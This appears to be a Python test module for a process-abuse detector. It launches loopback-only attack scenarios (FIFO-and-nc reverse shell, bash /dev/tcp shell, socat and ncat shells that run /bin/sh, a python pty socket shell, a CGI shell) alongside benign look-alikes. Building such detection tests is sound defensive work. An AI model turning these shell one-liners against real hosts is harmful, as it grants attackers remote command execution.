@@ -1,0 +1,312 @@
+"""The scenarios of ``../shared/detection/ipc-abuse.md`` section 4 (attacks, loopback
+only) and section 5 (benign look-alikes that must stay quiet).
+
+Each scenario starts real processes in its own session (so one ``killpg`` removes the
+whole tree), records every pid and path it creates, and reports the processes the
+detector should flag (``suspects``). A tool that is not installed makes the scenario
+*skipped*, never passed.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import urllib.request
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+SH = os.path.realpath("/bin/sh")
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+@dataclass
+class Running:
+    """What a started scenario left behind, for waiting on findings and cleaning up."""
+
+    workdir: Path
+    procs: list[subprocess.Popen[bytes]] = field(default_factory=list)
+    paths: list[Path] = field(default_factory=list)
+    cleanups: list[Callable[[], object]] = field(default_factory=list)
+
+    def spawn(self, argv: list[str], **kw: object) -> subprocess.Popen[bytes]:
+        kw.setdefault("stdin", subprocess.DEVNULL)
+        kw.setdefault("stdout", subprocess.DEVNULL)
+        kw.setdefault("stderr", subprocess.DEVNULL)
+        proc = subprocess.Popen(argv, start_new_session=True, cwd=self.workdir, **kw)  # type: ignore[call-overload]
+        self.procs.append(proc)
+        return proc
+
+    def pids(self) -> set[int]:
+        """Every live process of the scenario: members of its sessions and all their
+        descendants (``setsid`` children leave the session but keep the parent link)."""
+        sessions = {p.pid for p in self.procs}
+        parents: dict[int, int] = {}
+        found = set()
+        for entry in Path("/proc").iterdir():
+            if not entry.name.isdigit():
+                continue
+            with contextlib.suppress(OSError, ValueError, IndexError):
+                stat = (entry / "stat").read_text()
+                after = stat[stat.rindex(")") + 2 :].split()
+                pid = int(entry.name)
+                parents[pid] = int(after[1])  # field 4: ppid
+                if int(after[3]) in sessions:  # field 6: session id
+                    found.add(pid)
+        changed = True
+        while changed:
+            grown = {pid for pid, ppid in parents.items() if ppid in found} - found
+            changed = bool(grown)
+            found |= grown
+        return found
+
+    def cleanup(self) -> None:
+        for action in self.cleanups:
+            with contextlib.suppress(Exception):
+                action()
+        for proc in self.procs:
+            with contextlib.suppress(ProcessLookupError, PermissionError):
+                os.killpg(proc.pid, signal.SIGKILL)
+        for proc in self.procs:
+            with contextlib.suppress(subprocess.TimeoutExpired):
+                proc.wait(timeout=5)
+        for path in self.paths:
+            with contextlib.suppress(FileNotFoundError):
+                if path.is_dir() and not path.is_symlink():
+                    shutil.rmtree(path)
+                else:
+                    path.unlink()
+        shutil.rmtree(self.workdir, ignore_errors=True)
+
+
+@dataclass(frozen=True)
+class Scenario:
+    number: str
+    name: str
+    attack: bool
+    tools: tuple[str, ...]
+    start: Callable[[Running], None]
+
+    def missing_tools(self) -> list[str]:
+        return [t for t in self.tools if shutil.which(t) is None]
+
+    def launch(self) -> Running:
+        running = Running(Path(tempfile.mkdtemp(prefix=f"fleetctl-validate-{self.number}-")))
+        try:
+            self.start(running)
+        except BaseException:
+            running.cleanup()
+            raise
+        time.sleep(0.7)  # let the chain settle before the next collection
+        return running
+
+
+def _listening(port: int) -> bool:
+    """Whether something listens on TCP ``port``, read from /proc/net/tcp{,6}.
+
+    Connecting to find out would use up the connection of one-shot listeners such as
+    ``ncat -l -e`` (they serve one client, then exit).
+    """
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        with contextlib.suppress(OSError):
+            for line in Path(table).read_text().splitlines()[1:]:
+                fields = line.split()
+                if fields[3] == "0A" and int(fields[1].rsplit(":", 1)[1], 16) == port:
+                    return True
+    return False
+
+
+def _wait_listening(port: int, timeout: float = 5.0) -> None:
+    deadline = time.monotonic() + timeout
+    while not _listening(port):
+        if time.monotonic() > deadline:
+            raise RuntimeError(f"nothing listens on 127.0.0.1:{port}")
+        time.sleep(0.05)
+
+
+def _wait_path(path: Path, timeout: float = 5.0) -> None:
+    deadline = time.monotonic() + timeout
+    while not path.exists():
+        if time.monotonic() > deadline:
+            raise RuntimeError(f"{path} did not appear")
+        time.sleep(0.05)
+
+
+def _nc_listener(run: Running, port: int) -> None:
+    """A listener that keeps its connection open (nc -l, as in the notes)."""
+    run.spawn(["nc", "-l", "127.0.0.1", str(port)], stdin=subprocess.PIPE)
+    _wait_listening(port)
+
+
+# -- attacks ---------------------------------------------------------------------------
+
+
+def fifo_reverse_shell(run: Running) -> None:
+    port = free_port()
+    _nc_listener(run, port)
+    fifo = run.workdir / "f"
+    os.mkfifo(fifo)
+    run.spawn([SH, "-c", f"cat {fifo} | {SH} -i 2>&1 | nc 127.0.0.1 {port} > {fifo}"])
+
+
+def dev_tcp_shell(run: Running) -> None:
+    port = free_port()
+    _nc_listener(run, port)
+    run.spawn(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"])
+
+
+def socat_unix_exec(run: Running) -> None:
+    sock = run.workdir / "ipc.sock"
+    run.spawn(["socat", f"UNIX-LISTEN:{sock},fork", f"EXEC:{SH}"])
+    _wait_path(sock)
+    run.spawn(["socat", "-", f"UNIX-CONNECT:{sock}"], stdin=subprocess.PIPE)
+
+
+def socat_tcp_pty(run: Running) -> None:
+    port = free_port()
+    run.spawn(
+        [
+            "socat",
+            f"TCP-LISTEN:{port},bind=127.0.0.1,reuseaddr,fork",
+            "EXEC:bash -li,pty,stderr,setsid,sigint,sane",
+        ]
+    )
+    _wait_listening(port)
+    run.spawn(["socat", "-", f"TCP:127.0.0.1:{port}"], stdin=subprocess.PIPE)
+
+
+def ncat_exec(run: Running) -> None:
+    port = free_port()
+    run.spawn(["ncat", "-l", "127.0.0.1", str(port), "-e", SH])
+    _wait_listening(port)
+    run.spawn(["ncat", "127.0.0.1", str(port)], stdin=subprocess.PIPE)
+
+
+def fifo_command_channel(run: Running) -> None:
+    base = Path("/dev/shm") if os.access("/dev/shm", os.W_OK) else run.workdir
+    fifo = base / f".c-{os.getpid()}-{time.monotonic_ns()}"
+    os.mkfifo(fifo)
+    run.paths.append(fifo)
+    run.spawn([SH, "-c", f"exec {SH} <>{fifo} >{run.workdir / 'fifo.out'} 2>&1"])
+    with open(fifo, "w") as channel:
+        channel.write("sleep 120\n")
+
+
+def python_unix_pty(run: Running) -> None:
+    sock = run.workdir / "p.sock"
+    run.spawn(["socat", f"UNIX-LISTEN:{sock}", "-"], stdin=subprocess.PIPE)
+    _wait_path(sock)
+    code = (
+        "import socket,os,pty;s=socket.socket(socket.AF_UNIX);"
+        f"s.connect({str(sock)!r});[os.dup2(s.fileno(),f) for f in (0,1,2)];"
+        f"pty.spawn({SH!r})"
+    )
+    run.spawn(["python3", "-c", code])
+
+
+def python_cgi(run: Running) -> None:
+    port = free_port()
+    cgi = run.workdir / "cgi-bin"
+    cgi.mkdir()
+    # As root, http.server runs CGI scripts as nobody: the tree must be readable to it.
+    run.workdir.chmod(0o755)
+    cgi.chmod(0o755)
+    script = cgi / "t.sh"
+    script.write_text(f"#!{SH}\necho 'Content-Type: text/plain'\necho\nwhoami\nsleep 120\n")
+    script.chmod(0o755)
+    run.spawn(
+        [
+            sys.executable,
+            "-W",
+            "ignore",
+            "-m",
+            "http.server",
+            "--cgi",
+            "--bind",
+            "127.0.0.1",
+            str(port),
+        ]
+    )
+    _wait_listening(port)
+
+    def fetch() -> None:
+        with contextlib.suppress(Exception):
+            urllib.request.urlopen(f"http://127.0.0.1:{port}/cgi-bin/t.sh", timeout=150)
+
+    threading.Thread(target=fetch, daemon=True).start()
+
+
+# -- benign look-alikes ------------------------------------------------------------------
+
+
+def tmux_session(run: Running) -> None:
+    name = f"fleetctl-validate-{os.getpid()}-{time.monotonic_ns()}"
+    subprocess.run(
+        ["tmux", "new-session", "-d", "-s", name, f"{SH} -c 'ls >/dev/null; sleep 120'"],
+        check=True,
+        cwd=run.workdir,
+    )
+    run.cleanups.append(
+        lambda: subprocess.run(
+            ["tmux", "kill-session", "-t", name], capture_output=True, check=False
+        )
+    )
+
+
+def cron_run_parts(run: Running) -> None:
+    jobs = run.workdir / "cron.daily"
+    jobs.mkdir()
+    job = jobs / "logrotate"
+    job.write_text(f"#!{SH}\nsleep 120\n")
+    job.chmod(0o755)
+    run.spawn(["run-parts", str(jobs)])
+
+
+def make_build(run: Running) -> None:
+    (run.workdir / "Makefile").write_text("all:\n\tsh -c 'sleep 120 | cat > /dev/null'\n")
+    run.spawn(["make", "-C", str(run.workdir)])
+
+
+def language_server(run: Running) -> None:
+    code = (
+        "import subprocess,sys,time; p=subprocess.Popen([sys.executable,'-c',"
+        "'import sys,time; time.sleep(120)'],stdin=subprocess.PIPE,stdout=subprocess.PIPE);"
+        "time.sleep(120)"
+    )
+    run.spawn([sys.executable, "-c", code])
+
+
+def ci_pipe_to_shell(run: Running) -> None:
+    script = run.workdir / "install.sh"
+    script.write_text("echo installing\nsleep 120\n")
+    run.spawn([SH, "-c", f"cat {script} | {SH}"])
+
+
+SCENARIOS: tuple[Scenario, ...] = (
+    Scenario("1", "FIFO reverse shell (cat fifo | sh -i | nc)", True, ("nc",), fifo_reverse_shell),
+    Scenario("2", "bash -i over /dev/tcp", True, ("bash", "nc"), dev_tcp_shell),
+    Scenario("3", "socat UNIX-LISTEN EXEC:/bin/sh", True, ("socat",), socat_unix_exec),
+    Scenario("5", "socat TCP-LISTEN EXEC:bash -li,pty", True, ("socat", "bash"), socat_tcp_pty),
+    Scenario("6", "ncat -l -e /bin/sh", True, ("ncat",), ncat_exec),
+    Scenario("7", "shell reading a FIFO in /dev/shm", True, (), fifo_command_channel),
+    Scenario("8", "python unix-socket pty shell", True, ("socat", "python3"), python_unix_pty),
+    Scenario("10", "python CGI server spawning a shell", True, (), python_cgi),
+    Scenario("B1", "tmux session running commands", False, ("tmux",), tmux_session),
+    Scenario("B2", "cron-style run-parts", False, ("run-parts",), cron_run_parts),
+    Scenario("B3", "make spawning shells over pipes", False, ("make",), make_build),
+    Scenario("B4", "language server on stdio pipes", False, (), language_server),
+    Scenario("B5", "CI step: cat script | sh", False, (), ci_pipe_to_shell),
+)
